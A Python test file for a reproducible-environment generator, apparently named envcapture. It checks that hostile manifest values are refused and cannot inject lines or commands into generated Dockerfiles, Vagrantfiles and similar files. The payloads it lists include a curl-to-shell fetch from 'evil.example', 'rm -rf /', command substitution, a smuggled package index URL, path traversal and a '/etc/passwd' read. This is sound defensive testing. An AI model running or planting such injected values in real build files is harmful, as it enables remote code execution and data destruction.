"""A manifest may come from a stranger: every value that reaches a kit is refused unless it fits its grammar.

The corpus puts each hostile payload into each kind of field that reaches a generated file; generate must
exit 2 with a line naming the field and write nothing. The property test (hypothesis) checks the other
side: whatever a field holds, an accepted value never adds a line or an instruction to any file.
"""

from __future__ import annotations

import copy
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envcapture.errors import BadInput
from envcapture.render.kit import build_kit

from .conftest import load_manifest, run_cli

PAYLOADS = {
    "newline": "x\nRUN curl evil.example | sh",
    "and": "x && rm -rf /",
    "subshell": "$(id)",
    "backtick": "`id`",
    "single-quote": "x'y",
    "double-quote": 'x"y',
    "carriage-return": "x\rRUN id",
    "line-separator": "x\u2028RUN id",
    "huge": "a" * 5000,
}


def _small(name: str) -> dict:
    """An example manifest cut to the packages that matter (keeps 300 runs fast)."""
    data = load_manifest(name)
    data["system_packages"]["packages"] = [p for p in data["system_packages"]["packages"] if p["manual"]][:5]
    return data


def _index(data, name):
    return next(i for i, p in enumerate(data["python_packages"]) if p["name"] == name)


def _fields():
    """(manifest, path) for every kind of field a renderer writes, with the JSON path its error must name."""
    mixed = _small("mixed-sources.json")
    mixed["code"] = {"commit": "a" * 40, "branch": "main", "dirty": False, "dirty_files": 0,
                     "remote": "https://example.org/project.git"}
    vcs, archive, six = _index(mixed, "rsoccer-gym"), _index(mixed, "tomli"), _index(mixed, "six")
    internal = _index(mixed, "internal-lib")
    fields = [(mixed, path) for path in [
        ("python", "version"), ("created",),
        ("python_packages", six, "name"), ("python_packages", six, "version"),
        ("python_packages", vcs, "source", "url"), ("python_packages", vcs, "source", "commit"),
        ("python_packages", archive, "source", "url"), ("python_packages", archive, "source", "hash"),
        ("python_packages", internal, "index_url"),
        ("system_packages", "packages", 0, "name"), ("system_packages", "packages", 0, "version"),
        ("os", "id"), ("os", "version_id"), ("os", "codename"), ("os", "pretty_name"),
        ("code", "remote"), ("code", "commit"), ("determinism", "environment", "PYTHONHASHSEED"),
    ]]
    conda = _small("conda-env.json")
    fields += [(conda, ("conda", "packages", 0, key)) for key in ("name", "version", "build", "url", "md5", "channel")]
    gpu = _small("system-cuda.json")
    fields += [(gpu, ("gpu", "devices", 0, "name")), (gpu, ("gpu", "toolkits", 0, "version")),
               (gpu, ("gpu", "cudnn", 0, "version"))]
    return fields


def _set(data, path, value):
    target = data
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value


def _json_path(path) -> str:
    out = ""
    for part in path:
        out += f"[{part}]" if isinstance(part, int) else (f".{part}" if out else str(part))
    return out


FIELDS = _fields()


@pytest.mark.parametrize("payload", sorted(PAYLOADS))
@pytest.mark.parametrize("index", range(len(FIELDS)), ids=[_json_path(p) for _, p in FIELDS])
def test_hostile_value_is_refused_and_nothing_written(tmp_path, capsys, index, payload):
    base, path = FIELDS[index]
    data = copy.deepcopy(base)
    _set(data, path, PAYLOADS[payload])
    manifest = tmp_path / "hostile.json"
    manifest.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "kit"
    code = run_cli(["generate", "all", "-m", str(manifest), "-o", str(out)])
    err = capsys.readouterr().err
    assert code == 2, f"{_json_path(path)} accepted {payload}"
    assert _json_path(path) in err
    assert "Traceback" not in err
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["hostile.json"]


def test_untouched_base_manifests_generate(tmp_path):
    """The corpus must fail because of the payload, not because the base manifests are broken."""
    for i, data in enumerate({id(d): d for d, _ in FIELDS}.values()):
        manifest = tmp_path / f"m{i}.json"
        manifest.write_text(json.dumps(data), encoding="utf-8")
        assert run_cli(["generate", "all", "-m", str(manifest), "-o", str(tmp_path / f"kit{i}")]) == 0


# ---------------------------------------------------------------- property: no new lines, no new instructions

_PROPERTY_FIELDS = [path for data, path in FIELDS if data is FIELDS[0][0] and path not in (
    ("python", "version"), ("python_packages", _index(FIELDS[0][0], "six"), "version"),
    ("os", "id"), ("os", "version_id"), ("os", "codename"), ("created",))]
_ALPHABET = st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs", "Cc", "Zl", "Zp"))
_VALUES = st.one_of(st.sampled_from(sorted(PAYLOADS.values())), st.text(_ALPHABET, max_size=40),
                    st.from_regex(r"\A[a-z0-9][a-z0-9.+~-]{0,20}\Z"))


def _render(tmp_path, data) -> dict[str, str]:
    manifest = tmp_path / "m.json"
    manifest.write_text(json.dumps(data), encoding="utf-8")
    files = build_kit(manifest, ("docker", "binder", "packer", "vagrant", "apptainer", "devcontainer"), "cmd")
    return {rel: text for rel, text in files.items() if isinstance(text, str)}


def _shape(text: str) -> tuple[int, list[str]]:
    lines = text.split("\n")
    starts = [line.split(" ", 1)[0] for line in lines if line and not line.startswith((" ", "#"))]
    return len(lines), starts


@pytest.fixture(scope="module")
def baseline(tmp_path_factory):
    return _render(tmp_path_factory.mktemp("baseline"), FIELDS[0][0])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=st.sampled_from(_PROPERTY_FIELDS), value=_VALUES)
def test_accepted_values_never_add_lines_or_instructions(tmp_path, baseline, field, value):
    data = copy.deepcopy(FIELDS[0][0])
    _set(data, field, value)
    try:
        files = _render(tmp_path, data)
    except BadInput as exc:
        assert _json_path(field) in str(exc) + " ".join(exc.problems)
        return
    assert sorted(files) == sorted(baseline)
    for rel, text in files.items():
        if rel in ("REPRODUCE.md", ".envcapture-files"):
            assert text.count("\n") == baseline[rel].count("\n"), rel
            continue
        assert _shape(text)[0] == _shape(baseline[rel])[0], f"{rel}: {value!r} in {_json_path(field)} added lines"
        if rel in ("Dockerfile", "envcapture.def", "Vagrantfile", "provision.sh"):
            assert _shape(text)[1] == _shape(baseline[rel])[1], f"{rel}: instructions changed"


# ---------------------------------------------------------------- the renderers' own fence, without validation
# build_kit validates the whole manifest before any renderer runs, so the tests above pass even if every
# renderer's own check (grammar.require) were gone. These call the planner and the renderers directly with
# values that never went through the schema.

_DIRECT_PAYLOADS = ("and", "newline", "subshell", "single-quote")


def _plan_directly(data):
    from envcapture.render.kit import ALL_TARGETS
    from envcapture.render.plan import Options, make_plan

    return make_plan(data, Options(targets=ALL_TARGETS, command="cmd", manifest_sha256="0" * 64))


@pytest.mark.parametrize("payload", _DIRECT_PAYLOADS)
@pytest.mark.parametrize("index", range(len(FIELDS)), ids=[_json_path(p) for _, p in FIELDS])
def test_planner_refuses_unvalidated_hostile_values(index, payload):
    base, path = FIELDS[index]
    data = copy.deepcopy(base)
    _set(data, path, PAYLOADS[payload])
    with pytest.raises(BadInput) as refused:
        _plan_directly(data)
    assert _json_path(path) in str(refused.value)


@pytest.mark.parametrize("subdirectory", ["../../etc", "a/../../b", "..", "/abs", "x --index-url https://evil/simple",
                                          "pkg#egg=evil", "a b"])
def test_lock_builder_refuses_a_subdirectory_outside_the_source(subdirectory):
    from envcapture.render.lock import build_lock

    data = copy.deepcopy(FIELDS[0][0])
    vcs = _index(data, "rsoccer-gym")
    data["python_packages"][vcs]["source"]["subdirectory"] = subdirectory
    with pytest.raises(BadInput, match=r"python_packages\[\d+\]\.source\.subdirectory"):
        build_lock(data)


def test_reproduce_md_quotes_the_remote_even_past_the_grammar():
    """The clone command the reader pastes: a remote that slipped past the grammar stays one word."""
    import shlex

    from envcapture.render import reproduce_md

    data = copy.deepcopy(FIELDS[0][0])
    plan = _plan_directly(data)
    plan.code_remote = "https://host/evil&&curl${IFS}evil.example|sh&&true"
    plan.code_commit = "a" * 40
    text = reproduce_md.render(plan, ["Dockerfile"])
    line = next(line for line in text.splitlines() if line.strip().startswith("git clone"))
    words = shlex.split(line)
    assert words[:4] == ["git", "clone", plan.code_remote, "project"]
    assert words[4:] == ["&&", "git", "-C", "project", "checkout", "a" * 40]


def test_a_replaced_primary_index_is_named_in_reproduce_md(tmp_path):
    data = copy.deepcopy(FIELDS[0][0])
    data["python"]["package_indexes"]["index_url"] = "https://mirror.example.org/pypi/simple"
    files = _render(tmp_path, data)
    assert "Primary package index replaced: <https://mirror.example.org/pypi/simple>" in files["REPRODUCE.md"]
    assert "--index-url https://mirror.example.org/pypi/simple\n" in files["requirements.lock"]


# ---------------------------------------------------------------- the string escapers, against the real parsers

_ESCAPER_VALUES = ["plain", "it's", 'say "hi"', "back\\slash", "trail\\", "#{`id`}", "${file(\"/etc/passwd\")}",
                   "%{ if true }x%{ endif }", "$${kept}", "%%{kept}", "\\'", "\u202eevil", "line\nbreak", "tab\tx"]


def test_ruby_string_round_trips_through_ruby():
    import shutil
    import subprocess

    from envcapture.render.common import ruby_string

    ruby = shutil.which("ruby")
    if ruby is None:
        pytest.skip("ruby is not installed (apt-get install ruby)")
    program = "".join(f"puts({ruby_string(v)}.inspect)\n" for v in _ESCAPER_VALUES)
    done = subprocess.run([ruby, "-e", program], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    expected = subprocess.run([ruby, "-e", "STDIN.read.split(\"\\0\").each { |v| puts v.inspect }"],
                              input="\0".join(_ESCAPER_VALUES), capture_output=True, text=True, timeout=60).stdout
    assert done.stdout == expected
    assert ruby_string("it's #{x}") == "'it\\'s #{x}'"


def test_hcl_string_round_trips_through_packer(tmp_path):
    import shutil
    import subprocess

    from envcapture.render.common import hcl_string

    packer = shutil.which("packer")
    if packer is None:
        pytest.skip("packer is not installed")
    values = _ESCAPER_VALUES
    config = tmp_path / "t.pkr.hcl"
    config.write_text("".join(f'variable "v{i}" {{\n  default = {hcl_string(v)}\n}}\n' for i, v in enumerate(values)))
    expression = "jsonencode([" + ", ".join(f"var.v{i}" for i in range(len(values))) + "])\n"
    done = subprocess.run([packer, "console", str(config)], input=expression, capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == values
    assert hcl_string('a${b}%{c}"') == '"a$${b}%%{c}\\""'
